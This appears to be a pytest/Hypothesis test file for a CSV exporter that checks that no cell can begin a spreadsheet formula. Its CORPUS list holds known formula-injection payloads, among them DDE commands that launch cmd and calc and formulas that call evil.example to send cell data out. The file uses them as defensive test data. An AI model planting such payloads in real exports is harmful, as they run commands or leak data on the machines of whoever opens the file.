"""Any text comes back from a CSV as it was, and none of it begins a formula."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.core.tables import FORMULA, MAX_CELL_CHARACTERS, CsvTable, cell_of, guarded, shortened
from tests.conftest import IS_FULL_RUN

some = settings(max_examples=5_000 if IS_FULL_RUN else 100, deadline=None)
TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))
TRICKY = st.text(st.sampled_from("'=+-@\t\r\n\",;aä\ufeff＝＋－＠"))
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

# After OWASP's and the field's collections.
CORPUS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "+1+1", "-1+1", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "+cmd|' /C notepad'!'A1'", "-2+3+cmd|' /C calc'!D2", "@cmd|' /C calc'!A0", "=WEBSERVICE(\"http://evil.example\")",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''=1+1", "=", "+", "-", "@", "-5", "+49 30 1234",
]  # fmt: skip


def written(rows):
    stream = io.BytesIO()
    table = CsvTable(stream)
    for row in rows:
        table.write(row)
    table.close()
    return stream.getvalue()


def read(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def unguarded(text):
    return text[1:] if text.startswith("'") and FORMULA.match(text) else text


@some
@given(st.lists(st.lists(TEXT | TRICKY, min_size=2, max_size=4), max_size=5))
def test_any_text_comes_back(rows):
    assert [[unguarded(cell) for cell in row] for row in read(written(rows))] == rows


@some
@given(TEXT | TRICKY)
def test_no_cell_begins_like_a_formula(text):
    assert not guarded(text).startswith(DANGEROUS)
    assert guarded(text) in {text, f"'{text}"}


@pytest.mark.bar(45)
@pytest.mark.asvs("1.2.10")
@pytest.mark.parametrize("text", CORPUS)
def test_no_known_formula_gets_through(text):
    ((cell, _),) = read(written([[text, "x"]]))

    assert cell == f"'{text}"


@some
@given(st.integers() | st.floats(allow_nan=False, allow_infinity=False))
def test_numbers_stay_numbers(number):
    ((cell, _),) = read(written([[number, 1]]))

    assert float(cell) == float(number) or int(cell) == number


@some
@given(
    st.recursive(
        st.none() | st.booleans() | TEXT, lambda inner: st.lists(inner) | st.dictionaries(TEXT, inner), max_leaves=5
    )
)
def test_every_json_value_has_a_cell(value):
    assert isinstance(cell_of(value), str | bool | None)


@some
@given(st.integers(MAX_CELL_CHARACTERS - 2, MAX_CELL_CHARACTERS + 2), st.sampled_from(["x", "ä", "🙂"]))
def test_a_text_is_cut_to_what_a_cell_holds_and_shows_it(length, character):
    cut = shortened(character * length)

    assert len(cut.encode("utf-16-le")) // 2 <= MAX_CELL_CHARACTERS
    assert cut == character * length or cut.endswith("…")
